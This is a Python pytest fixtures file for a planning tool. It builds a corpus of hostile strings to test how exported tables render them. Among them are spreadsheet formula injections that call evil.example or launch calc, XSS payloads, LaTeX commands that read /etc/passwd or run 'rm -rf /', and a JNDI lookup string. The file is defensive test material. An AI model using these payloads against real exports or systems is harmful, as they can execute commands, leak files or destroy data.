"""A record whose regions carry every string that ever made a table run, and plans with classes and factors."""

import csv
import shutil

import pytest

from allocator.planning.plan import plan
from scenarios.load import find_scenario, load_scenario

CORPUS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","点")', "＝1+1",
    '=WEBSERVICE("http://evil.example")', "\t=1", "\r=1", "'=1", "''=1", "'引号", '"引"号"', 'a,b;c\td', "多\n行",
    "\r\n=2",
    "<script>alert(1)</script>", "</td></tr></table><script>alert(2)</script>", '" onmouseover="alert(3)" x="',
    "<img src=x onerror=alert(4)>", "&lt;b&gt;&amp;&#60;", "javascript:alert(5)", "<!-- x -->", "]]><x/>",
    r"\input{/etc/passwd}", r"\write18{rm -rf /}", r"$\alpha$ & 50% #1 _x_ ^2 ~", r"\\[2cm] \end{longtable}", "[1ex]",
    "*{9}",
    "a---b ``q'' ?` ,,", "[链接](http://evil.example)", "![图](http://evil.example/x.png)",
    "http://evil.example www.evil.example",
    "a|b\\|c\\", "`code` **粗** __x__ ~~y~~", "1. 甲", "# 标题", "<http://evil.example>", "a@evil.example",
    "{{7*7}}{% x %}",
    "\u202e倒写\u202c", "\u200b零宽\ufeff", "\u2066孤立\u2069", "长" * 200, "x" * 200, "_x0041_", "_x000D_",
    "\x00\x07\x1b[31m",
    "\ud800孤", "\ufffe\uffff", "\U0001f600\U00020000", "\x85\u2028\u2029", "南　宁", "${jndi:ldap://x}", "%n%s{0}",
)  # fmt: skip


@pytest.fixture(scope="session")
def corpus():
    return CORPUS


@pytest.fixture(scope="session")
def corpus_record(guangxi_plan):
    """Return a record with a region for each string; two classes, so that all stand in the class table too."""
    regions = guangxi_plan.record.regions
    named = tuple(
        regions[n % len(regions)].model_copy(update={"id": f"{n}", "name": text, "name_en": text, "class_": 1 + n % 2})
        for n, text in enumerate(CORPUS)
    )
    return guangxi_plan.record.model_copy(update={"regions": named})


@pytest.fixture(scope="session")
def classed_plan():
    return plan(load_scenario("guangxi-13fyp", ["publish.classes=5", "publish.grid=1 point"]))


@pytest.fixture(scope="session")
def factored_plan(tmp_path_factory):
    """Return a plan in classes with decline factors: the widest official table."""
    folder = tmp_path_factory.mktemp("factors")
    case = find_scenario("guangxi-13fyp").parent
    for name in ("scenario.yaml", "published.csv", "population.csv"):
        shutil.copy(case / name, folder)
    with (case / "regions.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    rows = [[*row, *(["s", "t", "u"] if n == 0 else ["10%", "8%", "12%"])] for n, row in enumerate(rows)]
    with (folder / "regions.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    with (folder / "scenario.yaml").open("a", encoding="utf-8") as file:
        file.write("potentials: {structure: s, technique: t, substitution: u}\n")
    return plan(load_scenario(folder, ["publish.classes=5", "publish.grid=1 point"]))
